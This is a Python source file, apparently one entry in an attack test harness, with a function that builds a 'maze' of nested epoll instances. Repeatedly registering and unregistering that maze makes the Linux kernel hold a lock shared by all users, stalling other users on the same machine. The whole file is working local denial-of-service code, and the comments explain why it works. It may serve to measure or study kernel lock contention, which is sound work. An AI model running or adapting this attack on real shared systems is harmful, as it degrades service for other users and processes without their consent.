# SPDX-License-Identifier: Apache-2.0
"""A lock of the kernel that all users share: adding to a nested epoll instance takes it, and an attacker holds it."""

import contextlib
import os
import resource
import select

from attack import Attack, Target

# Watches of one attacker: the kernel visits each of them with the lock held. It allows millions.
INSTANCES, FILES = 300, 900


def maze(target: Target) -> None:
    """An epoll instance of epoll instances, which is watched again and again."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    files = [os.eventfd(0) for _ in range(FILES)]
    root, top, kept = select.epoll(), select.epoll(), []
    for _ in range(INSTANCES):
        if target.left <= 0:
            break
        instance = select.epoll()
        for file in files:
            instance.register(file, select.EPOLLIN)
        root.register(instance, select.EPOLLIN)
        kept.append(instance)
    for _ in target.attempts():
        with contextlib.suppress(OSError):
            top.register(root, select.EPOLLIN)
        with contextlib.suppress(OSError):
            top.unregister(root)


ROWS = [Attack("a maze of epoll instances", maze, attackers=2)]
